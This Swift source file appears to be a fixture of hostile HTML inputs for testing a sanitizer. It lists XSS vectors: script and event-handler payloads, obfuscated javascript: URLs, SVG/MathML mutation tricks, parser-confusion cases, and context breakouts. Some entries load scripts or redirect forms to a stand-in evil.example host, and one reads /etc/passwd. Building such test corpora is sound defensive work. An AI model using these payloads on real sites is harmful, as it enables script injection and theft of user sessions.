/// HTML that tries to run something, to hide something from one parser and show it to another, or to break out of
/// the place it is put into.
enum HostileHTML {
    static let all = scripts + addresses + foreign + parsing + breakouts

    static let scripts = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
        "<script/x>alert(1)</script\t\n>", "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)//",
        "<p onclick=alert(1)>x</p>", "<b onmouseover='alert(1)'>x</b>", "<body onload=alert(1)>x",
        "<details open ontoggle=alert(1)>x</details>", "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>x</marquee>",
        "<style>@import 'https://evil.example/x.css';</style>", "<p style='background:url(javascript:alert(1))'>x</p>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href='https://evil.example/'><a href='x'>x</a>", "<form action=//evil.example><input name=code></form>",
        "<button formaction=javascript:alert(1)>x</button>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='data:text/html,<script>alert(1)</script>'></object>", "<embed src=javascript:alert(1)>",
        "<isindex action=javascript:alert(1) type=image>", "<p id=location name=cookie class=btn>clobber</p>",
        "<template><script>alert(1)</script><p>x</p></template>", "<portal src=//evil.example></portal>",
    ]

    static let addresses = [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\u{1}javascript:alert(1)",
        "java\tscript:alert(1)", "java\nscript:alert(1)", "java&#x09;script:alert(1)", "java&#10;script:alert(1)",
        "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "javascript&colon;alert(1)",
        "java&Tab;script:alert(1)", "java&NewLine;script&colon;alert(1)", "javascript\u{0}:alert(1)",
        "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
        "blob:https://example.com/1", "file:///etc/passwd", "feed:javascript:alert(1)", "view-source:javascript:1",
        "//evil.example/", "/sign-out", "?x", "#x", "\\\\evil.example\\x", "https:evil.example",
        "https:\\\\evil.example",
        "https://good.example@evil.example/", "https://good.example\\@evil.example/", "https://ex\u{430}mple.com/",
        "https://evil.example\u{ff0f}good.example/", "http:///x", "https://", "https://[::1]\"onclick=alert(1)",
        "mailto:a@b.example?bcc=x@evil.example&body=x", "mailto:a@b.example%0d%0aBcc:x@evil.example", "mailto:",
        "mailto:x", "https://a.example/\" onclick=\"alert(1)", "https://a.example/' onclick='alert(1)",
        "https://a.example/<script>", "\u{202e}javascript:alert(1)", "\u{feff}javascript:alert(1)",
        "\u{ff4a}avascript:alert(1)",
    ].map { "<a href=\"\($0.replacing("\"", with: "&quot;"))\">x</a>" }

    static let foreign = [
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
        "<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><foreignObject><p>x<img src=x onerror=alert(1)></p></foreignObject></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><desc><script>alert(1)</script></desc>",
        "<math><mtext><table><mglyph><style><math href=javascript:alert(1)>x</math></style></mglyph></table></mtext></math>",
        "<math><mi><p><a href=javascript:alert(1)>x</a></mi></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><annotation-xml encoding=text/html><p onclick=alert(1)>x</p></annotation-xml></math>",
        "<svg><title><p>x</title><script>alert(1)</script>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    ]

    static let parsing = [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea></p><script>alert(1)</script></textarea>", "<title><img src=x onerror=alert(1)></title>x",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<plaintext><script>alert(1)</script>",
        "<noembed><img src=x onerror=alert(1)></noembed>", "<select><p><script>alert(1)</script></select>",
        "<!--><img src=x onerror=alert(1)>-->", "<!--!><script>alert(1)</script>-->",
        "<!-- --!><script>alert(1)</script>",
        "<?php <script>alert(1)</script> ?>", "<![CDATA[<script>alert(1)</script>]]>",
        "<!DOCTYPE x [<script>alert(1)</script>]>",
        "<p\u{0}onclick=alert(1)>x", "<\u{0}script>alert(1)</script>", "<p/onclick=alert(1)/>x",
        "<a href=https://a.example/><a href=https://b.example/>x</a></a>",
        "<table><td><p>x</table>y", "<table><a href=javascript:alert(1)>x<tr><td>y</table>", "<b><p><i></b>x</i></p>",
        "<p><b><blockquote></p><i>x</b>y</blockquote></i>", "<ul>x<p>y<ul><ul><li>z", "<li>x<ol><li>y</ul>z",
        "<pre>\n\n<script>alert(1)</script>\n&#13;x</pre>", "<pre><p>x<ul><li>y</pre>z", "<h2>x<p>y</h2>z",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&#60script&#62alert(1)", "&lt",
        "&nbsp;&#0;&#x80;&#xD800;",
        "\u{1}\u{7f}\u{85}\u{fffe}x\u{2028}y", "<p>\u{feff}</p>", "<code>\u{feff}</code>x", "<body><frameset><p>x",
    ]

    static let breakouts = [
        "</div></main></body><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
        "</title><img src=x onerror=alert(1)>",
        "\"><script>alert(1)</script>", "' onclick='alert(1)", "`><img src=x onerror=alert(1)>", "{{#x}}{{{y}}}{{/x}}",
    ]
}
